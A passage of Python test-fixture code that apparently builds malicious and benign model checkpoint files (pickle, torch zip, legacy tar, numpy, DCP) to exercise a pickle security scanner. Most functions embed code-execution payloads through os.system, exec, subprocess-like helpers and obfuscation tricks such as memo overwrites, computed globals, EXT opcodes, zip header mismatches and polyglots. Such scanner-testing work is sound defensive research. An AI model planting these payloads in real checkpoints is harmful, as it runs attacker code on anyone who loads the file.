    return _write(directory, f"{stem}.inner", _inner_pickle(directory))


def zip_model_zoo_load_url(directory: Path) -> Path:
    """load_url('file://…', model_dir, None, False, False, name): torch.load(weights_only=False)."""
    inner = _inner_file(directory, "zip_model_zoo_load_url").absolute()
    cache = Path(directory).absolute() / "zip_model_zoo_load_url.cache"
    payload = _call(
        _g("torch.utils.model_zoo", "load_url"),
        _u(inner.as_uri()),
        _u(str(cache)),
        b"N",
        b"\x89",
        b"\x89",
        _u("weights.pth"),
    )
    return _torch_zip(directory, "zip_model_zoo_load_url", payload)


def pkl_timm_load_state_dict(directory: Path) -> Path:
    """timm.models._helpers.load_state_dict(path, True, 'cpu', weights_only=False)."""
    inner = _inner_file(directory, "pkl_timm_load_state_dict").absolute()
    payload = _call(
        _g("timm.models._helpers", "load_state_dict"), _u(str(inner)), b"\x88", _u("cpu"), b"\x89"
    )
    return _pkl(directory, "pkl_timm_load_state_dict", payload)


def pkl_interpreters_create(directory: Path) -> Path:
    """_interpreters.run_string(_interpreters.create(), src) (Python 3.13+ module names)."""
    interp = _call(_g("_interpreters", "create"))
    payload = _call(_g("_interpreters", "run_string"), interp, _u(_py(directory)))
    return _pkl(directory, "pkl_interpreters_create", payload)


def pkl_xxsubinterpreters_run_string(directory: Path) -> Path:
    """The same through the Python 3.8-3.12 module _xxsubinterpreters."""
    interp = _call(_g("_xxsubinterpreters", "create"))
    payload = _call(_g("_xxsubinterpreters", "run_string"), interp, _u(_py(directory)))
    return _pkl(directory, "pkl_xxsubinterpreters_run_string", payload)


def zip_torch_compile(directory: Path) -> Path:
    """torch.compile(torch.save)({}, <canary>): dynamo falls back to running torch.save."""
    compiled = _call(_g("torch", "compile"), _g("torch", "save"))
    payload = _call(compiled, b"}", _u(_canary(directory)))
    return _torch_zip(directory, "zip_torch_compile", payload)


def zip_import_dotted_name(directory: Path) -> Path:
    """torch._utils._import_dotted_name('os.system')(cmd): a call of a call's result."""
    system = _call(_g("torch._utils", "_import_dotted_name"), _u("os.system"))
    return _torch_zip(directory, "zip_import_dotted_name", _call(system, _u(_sh(directory))))


# invented ones of the same shape: a private helper called with a literal string


def pkl_logging_config_resolve(directory: Path) -> Path:
    system = _call(_g("logging.config", "_resolve"), _u("os.system"))
    return _pkl(directory, "pkl_logging_config_resolve", _call(system, _u(_sh(directory))))


def pkl_typing_eval_type(directory: Path) -> Path:
    """typing._eval_type(ForwardRef(src), {}, {}) evaluates the forward reference."""
    ref = _call(_g("typing", "ForwardRef"), _u(_py(directory)))
    payload = _call(_g("typing", "_eval_type"), ref, b"}", b"}")
    return _pkl(directory, "pkl_typing_eval_type", payload)


def zip_fx_exec_with_source(directory: Path) -> Path:
    payload = _call(_g("torch.fx.graph_module", "_exec_with_source"), _u(_py(directory)), b"}")
    return _torch_zip(directory, "zip_fx_exec_with_source", payload)


def pkl_jit_exec_wrapper(directory: Path) -> Path:
    payload = _call(
        _g("torch.jit.unsupported_tensor_ops", "execWrapper"), _u(_py(directory)), b"}", b"}"
    )
    return _pkl(directory, "pkl_jit_exec_wrapper", payload)


def pkl_collect_env_run_and_read_all(directory: Path) -> Path:
    """run_and_read_all(run, cmd): the command runner is passed as an argument, not called."""
    payload = _call(
        _g("torch.utils.collect_env", "run_and_read_all"),
        _g("torch.utils.collect_env", "run"),
        _u(_sh(directory)),
    )
    return _pkl(directory, "pkl_collect_env_run_and_read_all", payload)


def pkl_pydoc_pipepager(directory: Path) -> Path:
    payload = _call(_g("pydoc", "pipepager"), _u("model card\n"), _u(_sh(directory)))
    return _pkl(directory, "pkl_pydoc_pipepager", payload)


def zip_pydoc_tempfilepager(directory: Path) -> Path:
    """tempfilepager(text, cmd) runs os.system(cmd + ' "<tmpfile>"'); '#' drops the file."""
    payload = _call(_g("pydoc", "tempfilepager"), _u("model card\n"), _u(_sh(directory) + " #"))
    return _torch_zip(directory, "zip_pydoc_tempfilepager", payload)


def pkl_spawnv_passfds(directory: Path) -> Path:
    """multiprocessing.util.spawnv_passfds(b'/usr/bin/touch', [b'touch', canary], [])."""
    touch = (shutil.which("touch") or "/usr/bin/touch").encode()
    argv = _list(_b(b"touch"), _b(_canary(directory).encode()))
    payload = _call(_g("multiprocessing.util", "spawnv_passfds"), _b(touch), argv, b"]")
    return _pkl(directory, "pkl_spawnv_passfds", payload)


def pkl_datapipes_basichandlers(directory: Path) -> Path:
    payload = _call(
        _g("torch.utils.data.datapipes.utils.decoder", "basichandlers"),
        _u("pickle"),
        _b(_inner_pickle(directory)),
    )
    return _pkl(directory, "pkl_datapipes_basichandlers", payload)


def pkl_imaplib_imap4_stream(directory: Path) -> Path:
    """IMAP4_stream(cmd) starts `cmd` with shell=True as its transport."""
    payload = _call(_g("imaplib", "IMAP4_stream"), _u(_sh(directory)))
    return _pkl(directory, "pkl_imaplib_imap4_stream", payload)


def pkl_pkgutil_resolve_name(directory: Path) -> Path:
    system = _call(_g("pkgutil", "resolve_name"), _u("os:system"))
    return _pkl(directory, "pkl_pkgutil_resolve_name", _call(system, _u(_sh(directory))))


def pkl_py2_commands_getoutput(directory: Path) -> Path:
    """`commands getoutput` in protocol 0: the unpickler maps it to subprocess.getoutput."""
    payload = _tcall(_g("commands", "getoutput"), _tv(_sh(directory)))
    data = _spliced_dumps(_np_slot_state(), {_SLOT: payload}, 0)
    return _write(directory, "pkl_py2_commands_getoutput.pkl", data)


# =========================================================================== encodings and opcodes


def _p0_with_prefix(directory: Path, stem: str, prefix: bytes) -> Path:
    """A protocol 0 numpy checkpoint led by `prefix` + POP; the payload is its last entry."""
    payload = _tcall(_g("posix", "system"), _tv(_sh(directory)))
    data = prefix + b"0" + _spliced_dumps(_np_slot_state(), {_SLOT: payload}, 0)
    return _write(directory, f"{stem}.pt", data)


def p0_utf8_string_prefix(directory: Path) -> Path:
    """S'\\xc3\\xa9': pickletools decodes STRING as ASCII and gives up; torch.load (encoding
    utf-8) reads 'é' and goes on to the payload."""
    return _p0_with_prefix(directory, "p0_utf8_string_prefix", b"S'\xc3\xa9'\n")


def p0_hex_int_prefix(directory: Path) -> Path:
    """I0x1: the unpickler parses INT with base 0, pickletools with base 10."""
    return _p0_with_prefix(directory, "p0_hex_int_prefix", b"I0x1\n")


def p0_hex_long_prefix(directory: Path) -> Path:
    """L0x1L: the same for LONG."""
    return _p0_with_prefix(directory, "p0_hex_long_prefix", b"L0x1L\n")


def _proto_variant(directory: Path, proto: int) -> Path:
    if proto == 0:
        payload = _tcall(_g("posix", "system"), _tv(_sh(directory)))
    else:
        payload = _system(directory)
    return _pkl(directory, f"pkl_proto{proto}_system", payload, proto=proto)


def pkl_proto0_system(directory: Path) -> Path:
    return _proto_variant(directory, 0)


def pkl_proto1_system(directory: Path) -> Path:
    return _proto_variant(directory, 1)


def pkl_proto2_system(directory: Path) -> Path:
    return _proto_variant(directory, 2)


def pkl_proto3_system(directory: Path) -> Path:
    return _proto_variant(directory, 3)


def pkl_proto4_system(directory: Path) -> Path:
    return _proto_variant(directory, 4)


def pkl_proto5_system(directory: Path) -> Path:
    return _proto_variant(directory, 5)


def pkl_inst_opcode(directory: Path) -> Path:
    """INST 'posix system' (protocol 0): the unpickler calls whatever INST names."""
    payload = b"(" + _tv(_sh(directory)) + b"iposix\nsystem\n"
    data = _spliced_dumps(_np_slot_state(), {_SLOT: payload}, 0)
    return _write(directory, "pkl_inst_opcode.pkl", data)


def pkl_obj_opcode(directory: Path) -> Path:
    """OBJ: MARK, the callable, its arguments, OBJ."""
    payload = b"(" + _g("subprocess", "check_call") + _touch_argv(directory) + b"o"
    return _pkl(directory, "pkl_obj_opcode", payload)


def pkl_newobj_ex_partial(directory: Path) -> Path:
    """NEWOBJ_EX functools.partial(posix.system, cmd) (a type's __new__), then called."""
    part = _g("functools", "partial") + _tup(_g("posix", "system"), _u(_sh(directory)))
    return _pkl(directory, "pkl_newobj_ex_partial", _call(part + b"}\x92"), proto=4)


def pkl_newobj_map_list(directory: Path) -> Path:
    """NEWOBJ map(posix.system, [cmd]), consumed by builtins.list."""
    lazy = _g("builtins", "map") + _tup(_g("posix", "system"), _list(_u(_sh(directory)))) + b"\x81"
    return _pkl(directory, "pkl_newobj_map_list", _call(_g("builtins", "list"), lazy))


def pkl_memo_put_get_text(directory: Path) -> Path:
    """Protocol 0: posix.system PUT (then POPped) in the first entry, GET and called in the last."""
    hidden = _g("posix", "system") + b"p9001\n0N"
    call = _tcall(b"g9001\n", _tv(_sh(directory)))
    state = {"config": _SLOT, **_np_state(), "optimizer": _SLOT2}
    data = _spliced_dumps(state, {_SLOT: hidden, _SLOT2: call}, 0)
    return _write(directory, "pkl_memo_put_get_text.pkl", data)


def pkl_memoize_callable(directory: Path) -> Path:
    """Protocol 4: builtins.exec MEMOIZEd (memo 0) and dropped early, BINGET 0 and called last."""
    hidden = _sg("builtins", "exec") + b"\x940N"
    call = _call(b"h\x00", _u(_py(directory)))
    return _write(
        directory,
        "pkl_memoize_callable.pkl",
        _framed(_dict([(_u("config"), hidden), *_np_pairs(), (_u("optimizer"), call)])),
    )


def pkl_memo_mixed_put_memoize(directory: Path) -> Path:
    """BINPUT 0/1 hold 'os'/'system'; MEMOIZE then fills 2/3 with 'torch._utils' and
    '_rebuild_tensor_v2', which a scanner that numbers only MEMOIZEs believes are 0/1."""
    names = (
        _su("os") + b"q\x000" + _su("system") + b"q\x010"
        + _su("torch._utils") + b"\x940" + _su("_rebuild_tensor_v2") + b"\x940N"
    )  # fmt: skip
    call = _call(b"h\x00h\x01\x93", _u(_sh(directory)))
    return _write(
        directory,
        "pkl_memo_mixed_put_memoize.pkl",
        _framed(_dict([(_u("config"), names), *_np_pairs(), (_u("optimizer"), call)])),
    )


def pkl_memo_overwrite(directory: Path) -> Path:
    """memo 5/6 first hold 'torch'/'FloatStorage', are overwritten with 'os'/'system' later."""
    first = _u("torch") + b"q\x05" + _u("FloatStorage") + b"q\x06" + b"\x86"  # TUPLE2
    second = _u("os") + b"q\x050" + _u("system") + b"q\x060N"
    call = _call(b"h\x05h\x06\x93", _u(_sh(directory)))
    pairs = [(_u("storage_type"), first), *_np_pairs(), (_u("note"), second)]
    return _write(
        directory,
        "pkl_memo_overwrite.pkl",
        _pickle(_dict([*pairs, (_u("optimizer"), call)]), 2),
    )


def pkl_frame_short_length(directory: Path) -> Path:
    """FRAME claims 5 bytes, which ends inside the first key's length field: the C unpickler
    does not check frame boundaries, pickle's Python unpickler stops ("exhausted before end")."""
    body = _dict([*_np_pairs(), (_u("optimizer"), _system(directory))]) + b"."
    return _write(
        directory, "pkl_frame_short_length.pkl", b"\x80\x04\x95" + struct.pack("<Q", 5) + body
    )


def pkl_frame_nested(directory: Path) -> Path:
    """FRAMEs opened inside unfinished frames, each claiming the rest of the file."""
    pairs = [*_np_pairs(), (_u("optimizer"), _system(directory))]
    tail = b"u."
    chunks = [b"}("] + [k + v for k, v in pairs]
    out = b""
    for chunk in reversed(chunks):
        rest = chunk + out
        out = b"\x95" + struct.pack("<Q", len(rest) + len(tail)) + rest
    return _write(directory, "pkl_frame_nested.pkl", b"\x80\x04" + out + tail)


def zip_memo_strings_stack_global(directory: Path) -> Path:
    """The picklescan CTF shape: UNICODE + PUT + POP for 'os', 'system' and two decoys, then
    GET GET STACK_GLOBAL, text opcodes mixed into a protocol 2 data.pkl."""
    payload = (
        _tv("os") + b"p9002\n0" + _tv("system") + b"p9003\n0"
        + _tv("torch") + b"p9000\n0" + _tv("LongStorage") + b"p9001\n0"
        + _tcall(b"g9002\ng9003\n\x93", _tv(_sh(directory)))
    )  # fmt: skip
    return _torch_zip(directory, "zip_memo_strings_stack_global", payload)


def pkl_computed_codecs_rot13(directory: Path) -> Path:
    """STACK_GLOBAL of _codecs.encode('cbfvk', 'rot13'), _codecs.encode('flfgrz', 'rot13'):
    both strings exist only at load time, made by a function weights_only loaders allow."""
    enc = _g("_codecs", "encode")
    fn = _call(enc, _u("cbfvk"), _u("rot13")) + _call(enc, _u("flfgrz"), _u("rot13")) + b"\x93"
    return _pkl(directory, "pkl_computed_codecs_rot13", _call(fn, _u(_sh(directory))))


def zip_computed_str_lower(directory: Path) -> Path:
    """STACK_GLOBAL of builtins.str.lower('POSIX'), builtins.str.lower('SYSTEM') (dotted)."""
    lower = _sg("builtins", "str.lower")
    fn = _call(lower, _u("POSIX")) + _call(lower, _u("SYSTEM")) + b"\x93"
    return _torch_zip(directory, "zip_computed_str_lower", _call(fn, _u(_sh(directory))), proto=4)


def pkl_ext1_code(directory: Path) -> Path:
    """EXT1 0xF0 + call: the global comes from the copyreg extension registry."""
    return _pkl(directory, "pkl_ext1_code", _call(b"\x82\xf0", _u(_sh(directory))))


def zip_ext2_code(directory: Path) -> Path:
    payload = _call(b"\x83" + struct.pack("<H", 0x1F2E), _u(_sh(directory)))
    return _torch_zip(directory, "zip_ext2_code", payload)


def pkl_ext4_code(directory: Path) -> Path:
    payload = _call(b"\x84" + struct.pack("<i", 0x7A6B5C), _u(_sh(directory)))
    return _pkl(directory, "pkl_ext4_code", payload)


def _build_on(target: bytes, state: bytes) -> bytes:
    """BUILD applied to a global itself (pushed, not called), dropped, None left in its place."""
    return target + state + b"b0N"


def zip_build_on_float32(directory: Path) -> Path:
    """BUILD on torch.float32 with slot state (itemsize, is_signed): tampers with a dtype every
    later tensor uses. No callable: CPython refuses the read-only attributes here."""
    state = _tup(b"N", _dict([(_u("itemsize"), _i(1)), (_u("is_signed"), b"\x88")]))
    return _hand_zip(
        directory,
        "zip_build_on_float32",
        (_u("dtype"), _build_on(_g("torch", "float32"), state)),
        before=True,
    )


def zip_build_on_ordereddict(directory: Path) -> Path:
    """BUILD on collections.OrderedDict (every tensor's backward_hooks) with a dict state."""
    state = _tup(b"N", _dict([(_u("__init__"), _g("builtins", "print"))]))
    return _hand_zip(
        directory,
        "zip_build_on_ordereddict",
        (_u("hooks"), _build_on(_g("collections", "OrderedDict"), state)),
        before=True,
    )


def pkl_build_on_module(directory: Path) -> Path:
    """BUILD on the `collections` module (reached as typing.collections): its OrderedDict becomes
    posix.system, and a later innocent-looking collections.OrderedDict(cmd) runs the command."""
    tamper = _build_on(
        _g("typing", "collections"), _dict([(_u("OrderedDict"), _g("posix", "system"))])
    )
    call = _call(_g("collections", "OrderedDict"), _u(_sh(directory)))
    return _hand_pkl(
        directory, "pkl_build_on_module", (_u("meta"), tamper), (_u("optimizer"), call), proto=2
    )


def zip_build_state_payload(directory: Path) -> Path:
    """argparse.Namespace (NEWOBJ) whose BUILD state dict holds the call."""
    state = _dict([(_u("lr"), _f(0.01)), (_u("hook"), _system(directory))])
    ns = _g("argparse", "Namespace") + b")\x81" + state + b"b"
    return _torch_zip(directory, "zip_build_state_payload", ns, key="args")


def pkl_build_slotstate_payload(directory: Path) -> Path:
    """argparse.Namespace whose BUILD (state, slotstate) puts the call in the slot state."""
    slots = _dict(
        [(_u("epochs"), _i(3)), (_u("cb"), _call(_g("builtins", "exec"), _u(_py(directory))))]
    )
    ns = _call(_g("argparse", "Namespace")) + _tup(b"N", slots) + b"b"
    return _pkl(directory, "pkl_build_slotstate_payload", ns, key="args")


def pkl_second_pickle_after_stop(directory: Path) -> Path:
    """A clean numpy checkpoint, STOP, then a second pickle (for code that loads twice)."""
    first = pickle.dumps(_np_state(), protocol=4)
    second = _framed(_dict([(_u("optimizer"), _system(directory))]))
    return _write(directory, "pkl_second_pickle_after_stop.pkl", first + second)


def zip_data_pkl_trailing_pickle(directory: Path) -> Path:
    """data.pkl is torch.save's own pickle followed by a second pickle with the payload."""
    path = Path(directory) / "zip_data_pkl_trailing_pickle.pth"
    members = _saved_members(path, _torch_state())
    tail = _pickle(_dict([(_u("optimizer"), _system(directory))]), 2)
    members = [(n, d + tail if n.endswith("/data.pkl") else d) for n, d in members]
    return _write_zip(path, members)


def pkl_safetensors_lookalike(directory: Path) -> Path:
    """BINFLOAT first: bytes 0-7 read as u64 are 71 (a plausible safetensors header length) and
    byte 8 is '{'; the float is popped and a pickle with a payload follows."""
    lead = b"G" + b"\x00" * 7 + b"{" + b"0"
    assert struct.unpack("<Q", lead[:8])[0] == 71 and lead[8:9] == b"{"
    body = _dict([*_np_pairs(), (_u("optimizer"), _system(directory))])
    return _write(directory, "pkl_safetensors_lookalike.bin", lead + _pickle(body, 2))


def pkl_persistent_id_payload(directory: Path) -> Path:
    """BINPERSID whose id object is the call (made before any persistent_load sees it)."""
    return _pkl(directory, "pkl_persistent_id_payload", _system(directory) + b"Q")


def zip_persistent_id_key(directory: Path) -> Path:
    """The call is the storage *key* in the persistent id of conv1.weight."""
    t = _torch_state()["conv1.weight"]
    # posix.system's return value (0) is not a storage key: the load fails after the call.
    expr = _tensor_expr("0", t, key_expr=_system(directory))
    return _hand_zip(directory, "zip_persistent_id_key", tensor_exprs={"conv1.weight": expr})


# =========================================================================== containers


def zip_other_pkl_member(directory: Path) -> Path:
    """Clean data.pkl; the payload is in another .pkl member (extra_state.pkl)."""
    data = _spliced_dumps(_np_slot_state(), {_SLOT: _system(directory)}, 2)
    return _zip_with_extra_member(directory, "zip_other_pkl_member", "extra_state.pkl", data)


def zip_non_pkl_member(directory: Path) -> Path:
    """Clean data.pkl; the payload is a pickle in a member not named .pkl."""
    data = _spliced_dumps(_np_slot_state(), {_SLOT: _system(directory)}, 2)
    return _zip_with_extra_member(directory, "zip_non_pkl_member", "extra/optimizer.bin", data)


def zip_torchscript_constants(directory: Path) -> Path:
    """A TorchScript-style archive (code/, constants.pkl) whose constants.pkl calls os.system."""
    path = Path(directory) / "zip_torchscript_constants.pt"
    members = _saved_members(path, _torch_state())
    prefix = members[0][0].split("/")[0]
    constants = _pickle(_tup(_system(directory)), 2)
    code = b"class Model(Module):\n  __parameters__ = []\n  def forward(self, x): return x\n"
    extra = [
        (f"{prefix}/constants.pkl", constants),
        (f"{prefix}/code/__torch__/model.py", code),
        (f"{prefix}/code/__torch__/model.py.debug_pkl", _pickle(b")", 2)),
    ]
    return _write_zip(path, members[:1] + extra + members[1:])


def _legacy_bytes(obj: object) -> bytes:
    buf = io.BytesIO()
    torch.save(obj, buf, _use_new_zipfile_serialization=False)
    return buf.getvalue()


def _pickle_bounds(data: bytes, count: int) -> list[tuple[int, int]]:
    """(start, end) of the first `count` pickles in a stream."""
    f, bounds = io.BytesIO(data), []
    for _ in range(count):
        start = f.tell()
        for _ in pickletools.genops(f):
            pass
        bounds.append((start, f.tell()))
    return bounds


def legacy_main_pickle(directory: Path) -> Path:
    """Legacy (pre-zip) torch.save; the payload is an entry of the main pickle."""
    state = {**_torch_state(), "_extra_state": _SLOT}
    data = _splice(_legacy_bytes(state), {_SLOT: _system(directory)})
    return _write(directory, "legacy_main_pickle.pth", data)


def legacy_sys_info_payload(directory: Path) -> Path:
    """Legacy format's third pickle (sys_info, which torch loads and ignores) holds the call."""
    data = _legacy_bytes(_torch_state())
    (s, e) = _pickle_bounds(data, 3)[2]
    sys_info = _pickle(
        _dict(
            [
                (_u("protocol_version"), _i(1001)),
                (_u("little_endian"), b"\x88"),
                (
                    _u("type_sizes"),
                    _dict([(_u("short"), _i(2)), (_u("int"), _i(4)), (_u("long"), _i(4))]),
                ),
                (_u("build"), _system(directory)),
            ]
        ),
        2,
    )
    return _write(directory, "legacy_sys_info_payload.pth", data[:s] + sys_info + data[e:])


def legacy_storage_keys_payload(directory: Path) -> Path:
    """Legacy format's last pickle (the storage key list) runs the call inside the list's MARK
    and POPs it: the keys stay intact and torch.load returns the state dict as if nothing ran."""
    data = _legacy_bytes(_torch_state())
    (s, e) = _pickle_bounds(data, 5)[4]
    keys = pickle.loads(data[s:e])
    new = _pickle(b"](" + _system(directory) + b"0" + b"".join(_u(k) for k in keys) + b"e", 2)
    return _write(directory, "legacy_storage_keys_payload.pth", data[:s] + new + data[e:])


def _dcp_save(folder: Path, state: dict[str, object]) -> None:
    import torch.distributed.checkpoint as dcp

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        dcp.save(state, checkpoint_id=str(folder), no_dist=True)


def dcp_metadata_prepended(directory: Path) -> Path:
    """A DCP folder whose .metadata starts with call + POP before the real Metadata pickle."""
    folder = Path(directory) / "dcp_metadata_prepended"
    _dcp_save(folder, dict(_torch_state()))
    meta = folder / ".metadata"
    meta.write_bytes(_system(directory) + b"0" + meta.read_bytes())
    return folder


def dcp_item_exec(directory: Path) -> Path:
    """A DCP folder whose non-tensor item is a builtins.exec call (DCP loads it unrestricted)."""
    folder = Path(directory) / "dcp_item_exec"
    state: dict[str, object] = dict(_torch_state())
    state["extra_state"] = _Reduce(builtins.exec, _py(directory))
    _dcp_save(folder, state)
    return folder


def npy_object_array(directory: Path) -> Path:
    """np.save of an object array (header, then a pickle) with a posix.system element."""
    path = Path(directory) / "npy_object_array.npy"
    arr = np.empty(3, dtype=object)
    arr[:] = [1.5, _Reduce(os.system, _sh(directory)), "lr"]
    np.save(path, arr, allow_pickle=True)
    return path


def npz_object_member(directory: Path) -> Path:
    """np.savez with a float `weight` and an object-array `meta` holding the call."""
    path = Path(directory) / "npz_object_member.npz"
    meta = np.empty(2, dtype=object)
    meta[:] = ["epoch", _Reduce(os.system, _sh(directory))]
    np.savez(path, weight=_np_state()["fc1.weight"], meta=meta)
    return path


# =========================================================================== parser differentials


def _members(path: Path, obj: object, prefix: str | None = None) -> list[tuple[str, bytes]]:
    members = _saved_members(path, obj)
    if prefix is not None:
        old = members[0][0].split("/")[0]
        members = [(prefix + n[len(old) :], d) for n, d in members]
    return members


def _evil_data_pkl(directory: Path) -> bytes:
    """torch.save's data.pkl for the usual state dict plus an `_extra_state` payload entry."""
    buf = io.BytesIO()
    torch.save({**_torch_state(), "_extra_state": _SLOT}, buf)
    with zipfile.ZipFile(buf) as zf:
        data = next(zf.read(n) for n in zf.namelist() if n.endswith("/data.pkl"))
    return _splice(data, {_SLOT: _system(directory)})


def zip_duplicate_evil_first(directory: Path) -> Path:
    """data.pkl twice: the hostile one first, a clean one last (the one a dict of names keeps)."""
    path = Path(directory) / "zip_duplicate_evil_first.pth"
    members = _members(path, _torch_state())
    name, clean = next((n, d) for n, d in members if n.endswith("/data.pkl"))
    evil = _evil_data_pkl(directory)
    ms = [_Member(name, evil), *(_Member(n, d) for n, d in members if n != name)]
    return _write_zip(path, [*ms[:-1], _Member(name, clean), ms[-1]])


def zip_decoy_folder(directory: Path) -> Path:
    """Members of two roots: a/ first, a clean b/ (data.pkl and storages) as a decoy, and the
    hostile a/data.pkl last. torch 2.x refuses mixed roots; a reader that takes the root from the
    first member reads a/data.pkl, one that takes the first data.pkl reads the decoy."""
    path = Path(directory) / "zip_decoy_folder.pth"
    a = _members(path, _torch_state(), prefix="a")
    b = _members(path, _torch_state(1), prefix="b")
    evil = _evil_data_pkl(directory)
    a_rest = [(n, d) for n, d in a if not n.endswith("/data.pkl")]
    return _write_zip(path, [*a_rest[:1], *b, *a_rest[1:], ("a/data.pkl", evil)])


def zip_decoy_nested_data_pkl(directory: Path) -> Path:
    """A clean archive/extra/data.pkl first (the first name ending in data.pkl), the hostile
    archive/data.pkl (the one torch reads) later."""
    path = Path(directory) / "zip_decoy_nested_data_pkl.pth"
    members = _members(path, _torch_state())
    name, clean = next((n, d) for n, d in members if n.endswith("/data.pkl"))
    root = name.split("/")[0]
    rest = [(n, d) for n, d in members if n != name]
    decoy = (f"{root}/extra/data.pkl", clean)
    return _write_zip(path, [decoy, *rest[:-1], (name, _evil_data_pkl(directory)), rest[-1]])


def zip_local_name_mismatch(directory: Path) -> Path:
    """The central directory says archive/data.pkl; its local header says archive/data.pkX
    (readers that walk local headers see no data.pkl; torch reads the directory's)."""
    path = Path(directory) / "zip_local_name_mismatch.pth"
    members = _members(path, _torch_state())
    evil = _evil_data_pkl(directory)
    ms = [
        _Member(n, evil, local_name=n[:-1] + "X") if n.endswith("/data.pkl") else _Member(n, d)
        for n, d in members
    ]
    return _write_zip(path, ms)


def zip_local_size_mismatch(directory: Path) -> Path:
    """data.pkl's local header claims 0 bytes; the central directory has the real size."""
    path = Path(directory) / "zip_local_size_mismatch.pth"
    members = _members(path, _torch_state())
    evil = _evil_data_pkl(directory)
    ms = [
        _Member(n, evil, local_sizes=(0, 0)) if n.endswith("/data.pkl") else _Member(n, d)
        for n, d in members
    ]
    return _write_zip(path, ms)


def zip_prepended_pickle(directory: Path) -> Path:
    """A pickle with the payload, then a clean torch zip (offsets absolute): zip readers find
    the archive from its end, torch.load sees no zip magic at 0 and unpickles the prefix."""
    path = Path(directory) / "zip_prepended_pickle.pth"
    members = _members(path, _torch_state())
    prefix = _pickle(_dict([(_u("optimizer"), _system(directory))]), 2)
    path.write_bytes(_zip_bytes([_Member(n, d) for n, d in members], prefix=prefix))
    return path


def zip_appended_pickle(directory: Path) -> Path:
    """A clean torch zip followed by a pickle with the payload after the end record."""
    path = Path(directory) / "zip_appended_pickle.pth"
    members = _members(path, _torch_state())
    tail = _pickle(_dict([(_u("optimizer"), _system(directory))]), 2)
    path.write_bytes(_zip_bytes([_Member(n, d) for n, d in members]) + tail)
    return path


def zip_hidden_local_header(directory: Path) -> Path:
    """A local header + hostile data.pkl in a gap between members that no directory entry names
    (a reader walking local headers meets two data.pkl; the directory lists one)."""
    path = Path(directory) / "zip_hidden_local_header.pth"
    members = _members(path, _torch_state())
    name = next(n for n, _ in members if n.endswith("/data.pkl"))
    hidden = _Member(name, _evil_data_pkl(directory), listed=False)
    ms = [_Member(n, d) for n, d in members]
    return _write_zip(path, [ms[0], hidden, *ms[1:]])


def tar_pickle_polyglot(directory: Path) -> Path:
    """A legacy torch tar (sys_info, storages, tensors, pickle) whose first header's name field
    is itself a pickle: read from offset 0 the file unpickles to 7; tarfile (and torch.load)
    reads the members, and `storages` runs the call before returning 0 storages."""
    path = Path(directory) / "tar_pickle_polyglot.tar"
    lead = b"\x80\x02K\x07."
    assert pickle.loads(lead) == 7
    members = [
        (lead.decode("latin-1"), b"\x00" * 16),
        ("sys_info", pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2)),
        ("storages", _inner_pickle_then(directory, b"K\x00") + _pickle(b"]", 2)),
        ("tensors", _pickle(b"K\x00", 2)),
        ("pickle", pickle.dumps({"epoch": 3, "lr": 0.01}, protocol=2)),
    ]
    with tarfile.open(path, "w", format=tarfile.USTAR_FORMAT, encoding="latin-1") as tar:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size, info.mtime, info.mode = len(data), 0, 0o644
            tar.addfile(info, io.BytesIO(data))
    assert path.read_bytes()[: len(lead)] == lead
    return path


# =========================================================================== benign files


def benign_npy_float32(directory: Path) -> Path:
    path = Path(directory) / "benign_npy_float32.npy"
    np.save(path, np.random.default_rng(0).standard_normal((16, 8)).astype(np.float32))
    return path


def benign_npy_int64(directory: Path) -> Path:
    path = Path(directory) / "benign_npy_int64.npy"
    np.save(path, np.arange(120, dtype=np.int64).reshape(10, 12))
    return path


def benign_npy_fortran(directory: Path) -> Path:
    path = Path(directory) / "benign_npy_fortran.npy"
    arr = np.random.default_rng(1).standard_normal((6, 5)).astype(np.float64)
    np.save(path, np.asfortranarray(arr))
    return path


def benign_npz_savez(directory: Path) -> Path:
    path = Path(directory) / "benign_npz_savez.npz"
    s = _np_state()
    np.savez(path, **{k: v for k, v in s.items() if isinstance(v, np.ndarray)})
    return path


def benign_npz_compressed(directory: Path) -> Path:
    path = Path(directory) / "benign_npz_compressed.npz"
    s = _np_state(2)
    np.savez_compressed(path, **{k: v for k, v in s.items() if isinstance(v, np.ndarray)})
    return path


def benign_torch_numpy_dict(directory: Path) -> Path:
    path = Path(directory) / "benign_torch_numpy_dict.pth"
    torch.save(_np_state(), path)
    return path


_SCRIPT = '''\
"""Defines its classes in __main__, saves with torch.save, or loads the file back."""
import enum
import sys

import torch
from torch import nn


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.conv = nn.Conv2d(3, 8, 3)
        self.bn = nn.BatchNorm2d(8)
        self.fc = nn.Linear(8, 10)

    def forward(self, x):
        return self.fc(self.bn(self.conv(x)).mean((2, 3)))


class Phase(enum.Enum):
    TRAIN = "train"
    EVAL = "eval"


class Stage(enum.IntEnum):
    WARMUP = 1
    MAIN = 2


def make(kind):
    torch.manual_seed(0)
    sd = Net().state_dict()
    if kind == "module":
        return Net()
    if kind == "enum":
        return {"phase": Phase.TRAIN, "state_dict": sd, "epoch": 2}
    return {"stage": Stage.MAIN, "state_dict": sd, "epoch": 2}


if __name__ == "__main__":
    action, *pairs = sys.argv[1:]
    for kind, path in zip(pairs[::2], pairs[1::2]):
        if action == "save":
            torch.save(make(kind), path)
            continue
        obj = torch.load(path, weights_only=False)
        expected = {"module": Net, "enum": dict, "intenum": dict}[kind]
        assert isinstance(obj, expected), type(obj)
        print("loaded", type(obj).__name__)
'''


_SCRIPT_KINDS = ("module", "enum", "intenum")
_SCRIPT_OUTPUTS: dict[str, Path] = {}


def _script_save(directory: Path, stem: str, kind: str) -> Path:
    """What the training script saves from its own __main__ (a fresh interpreter).

    One interpreter saves all three kinds on first use (each start costs seconds); each builder
    copies its file and the script next to it.
    """
    if kind not in _SCRIPT_OUTPUTS:
        tmp = Path(tempfile.mkdtemp(prefix="ckpt_verdict_script_"))
        atexit.register(shutil.rmtree, tmp, True)
        script = tmp / "train_script.py"
        script.write_text(_SCRIPT)
        pairs = [str(a) for k in _SCRIPT_KINDS for a in (k, tmp / f"{k}.pth")]
        subprocess.run(
            [sys.executable, str(script), "save", *pairs],
            check=True,
            capture_output=True,
            cwd=tmp,
            timeout=300,
        )
        _SCRIPT_OUTPUTS.update({k: tmp / f"{k}.pth" for k in _SCRIPT_KINDS})
    (Path(directory) / f"{stem}.train_script.py").write_text(_SCRIPT)
    path = Path(directory) / f"{stem}.pth"
